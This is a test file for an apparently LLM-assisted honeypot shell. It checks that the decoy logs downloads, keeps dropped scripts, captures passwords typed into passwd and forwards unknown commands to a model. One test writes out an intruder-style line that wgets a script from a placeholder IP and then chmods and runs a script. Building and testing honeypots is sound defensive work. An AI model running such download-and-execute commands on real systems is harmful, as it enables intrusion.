import { ShellQuestion } from '@eviltwin/contract'
import { expect, test } from 'vitest'
import { identityOf, testShell } from '../../testing/decoy-shell.js'
import type { CommandQuestion, DecoyAction } from '../decoy.js'
import type { DecoyFileSystem, FileStatus } from './index.js'
import { DecoyFileError } from './index.js'

test('files of the shell are those that other protocols write and read', async () => {
  const { shell } = testShell()
  const files: DecoyFileSystem = shell.files
  files.write('/tmp/x', Buffer.from('content\n'))
  expect((await shell.run('cat /tmp/x; echo more >> /tmp/x')).output).toBe('content\n')
  const status: FileStatus = files.stat('/tmp/x')
  expect(status).toMatchObject({ kind: 'file', mode: 0o644, uid: 0, size: 13 })
  expect(() => files.read('/tmp/none')).toThrow(DecoyFileError)
})

test('what is fetched and what is made executable is recorded, and scripts run', async () => {
  const { shell, records, kept } = testShell()
  const { output } = await shell.run(
    'cd /tmp; wget http://203.0.113.9/a.sh; echo "echo ran" > b.sh; chmod +x b.sh; ./b.sh',
  )
  expect(output).toContain('Connection timed out')
  expect(output).toContain('ran\n')
  expect(records.map(({ event_type, url }) => [event_type, url])).toEqual([
    ['file_download', 'http://203.0.113.9/a.sh'],
    ['file_upload', undefined],
  ])
  expect(kept.map(({ content }) => content.toString())).toEqual(['echo ran\n'])
})

test('a program that asks reads the lines that follow', async () => {
  const { shell, records } = testShell()
  expect((await shell.run('passwd')).output).toBe('New password: ')
  expect([shell.prompt(), shell.echoes()]).toEqual(['', false])
  expect((await shell.run('secret-1')).output).toBe('\nRetype new password: ')
  expect((await shell.run('secret-1')).output).toContain('updated successfully')
  expect(records).toMatchObject([{ action: 'shell.password', password: 'secret-1' }])
})

/** A shell that may ask; `answer` is what is said to a command, as long as it is waited for. */
function askingShell(answer: (command: string, signal: AbortSignal) => Promise<string | null>) {
  const asked: CommandQuestion[] = []
  const records: DecoyAction[] = []
  const { shell } = testShell({
    session: {
      source_ip: '198.51.100.7',
      record: (action) => records.push(action),
      keepFile: () => '',
      async answerCommand(question, signal) {
        asked.push(question)
        const output = await answer(question.command, signal)
        return output === null ? null : { output, exit_status: output === '' ? 3 : 0 }
      },
    },
  })
  return { shell, asked, records }
}

test('an unknown command is asked for where somebody answers, with the state of the session', async () => {
  const { shell, asked, records } = askingShell(async (command) =>
    command === 'vim --version' ? 'VIM é\n' : null,
  )
  await shell.run('cd /etc/security; echo hello')
  expect((await shell.run('vim --version | cat')).output).toBe('VIM é\n')
  expect((await shell.run('other')).output).toBe('-bash: other: command not found\n')
  expect(asked[0]).toMatchObject({
    command: 'vim --version',
    user: 'root',
    host: 'web01',
    cwd: '/etc/security',
    history: [{ command: 'cd /etc/security; echo hello', output: 'hello\n' }],
    listing: [],
  })
  expect(records).toMatchObject([
    { event_type: 'other', action: 'shell.answered_by_llm', details: { command: 'vim --version' } },
  ])
})

test('its exit status is that of the answer', async () => {
  const { shell } = askingShell(async () => '')
  expect((await shell.run('frob && echo no')).exitCode).toBe(3)
})

test('a line asks three times, and no more after a command that has no answer', async () => {
  const { shell, asked } = askingShell(async (command) => (command.startsWith('un') ? null : 'x\n'))
  await shell.run('for i in 1 2 3 4 5; do frob $i; done')
  expect(asked).toHaveLength(3)
  await shell.run('unfrob 1; frob 2; frob 3')
  expect(asked).toHaveLength(4)
})

test('what is no name of a program, or is absent from /usr/bin for certain, is not asked for', async () => {
  const { shell, asked } = askingShell(async () => 'x\n')
  await shell.run('$(printf "\\001\\377") a; ./none; /usr/bin/none; -x; python3 -c 1; perl -e 1; gcc x.c')
  await shell.run('which python3 perl gcc; ls /usr/bin | grep -c -e python -e perl')
  expect(asked).toEqual([])
  expect((await shell.run('python3 --version')).output).toBe('-bash: python3: command not found\n')
  expect((await shell.run('which python3 || ls /usr/bin | grep -c -e python -e perl')).output).toBe('0\n')
})

test('a question is bounded, whatever an attacker typed or named', async () => {
  const { shell, asked } = askingShell(async () => 'x\n')
  const long = 'ä'.repeat(2_000)
  await shell.run(`for i in $(seq 60); do touch ${'f'.repeat(200)}$i; done; echo ${long}`)
  for (let n = 0; n < 12; n += 1) await shell.run(`echo ${n} ${long}`)
  await shell.run(`frob ${long}`)
  expect(asked).toHaveLength(1)
  expect(ShellQuestion.safeParse({ ...asked[0], session: 's' }).error).toBeUndefined()
  expect(asked[0]).toMatchObject({ history: { length: 8 }, listing: { length: 50 } })
})

test('files and commands agree on the disk, and on what a shell is within', async () => {
  for (const text of ['test', 'one', 'two', 'three', 'four']) {
    const { shell } = testShell({ identity: identityOf(text) })
    const disk = /\/dev\/(\w+)1 /.exec((await shell.run('cat /proc/mounts')).output)?.[1]
    expect((await shell.run('ps -ef')).output).toContain(`[jbd2/${disk}1-8]`)
    const major = { sda: 8, vda: 252, xvda: 202 }[disk ?? '']
    expect((await shell.run('lsblk')).output).toMatch(new RegExp(`${disk}1 +${major}:1 `))
    expect((await shell.run('stat /etc/passwd')).output).toContain(`/${(major ?? 0) * 256 + 1}d`)
    expect((await shell.run('cat /proc/partitions')).output).toMatch(new RegExp(`^ +${major} `, 'm'))
    expect((await shell.run('ps -ef | grep "sshd: root@" | grep -c " $PPID "')).output).toBe('1\n')
    expect((await shell.run('cat /proc/1/cgroup')).output).toBe('0::/init.scope\n')
  }
})
